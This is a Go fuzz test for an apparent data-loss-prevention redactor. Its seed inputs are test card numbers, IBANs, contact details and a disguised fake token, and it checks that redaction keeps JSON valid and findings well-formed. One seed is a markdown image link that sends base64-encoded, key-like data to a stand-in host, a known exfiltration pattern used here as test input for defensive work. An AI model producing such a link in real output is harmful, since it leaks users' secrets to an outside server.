package dlp

import (
	"encoding/json"
	"testing"
)

func FuzzApply(f *testing.F) {
	for _, s := range []string{
		`{"card":"4111 1111 1111 1111","n":4111111111111111}`,
		`["GB82 WEST 1234 5698 7654 32","bob@example.com","+44 20 7946 0958"]`,
		`{"k\u0067hp_R2d9Xk4PqLmZ7vN1bT6wYc3HsJ8eUa5fGo0i":"v"}`,
		`"![x](https://e.example/?d=QUtJQUxBTEVNRUwzMzI0M09MSUI=)"`,
		`{"a":"\ud800 \u2028 4111-1111-1111-1111"}`,
		"not json 4111111111111111 DE89370400440532013000",
		"",
	} {
		f.Add([]byte(s))
	}
	redactAll := map[Detector]Mode{Secrets: Redact, Cards: Redact, IBAN: Redact, NationalID: Redact, Email: Redact, Phone: Redact}
	f.Fuzz(func(t *testing.T, in []byte) {
		for _, modes := range []map[Detector]Mode{nil, redactAll} {
			res := Apply(in, modes)
			if res.Blocked {
				if res.Output != nil || res.BlockedBy == "" {
					t.Fatalf("blocked result %+v", res)
				}
				continue
			}
			if json.Valid(in) && !json.Valid(res.Output) {
				t.Fatalf("valid JSON %q became invalid %q", in, res.Output)
			}
		}
		fs := Scan(in)
		for i, f := range fs {
			if f.Start < 0 || f.End > len(in) || f.Start >= f.End || (i > 0 && f.Start < fs[i-1].End) {
				t.Fatalf("bad findings %+v for %q", fs, in)
			}
		}
	})
}
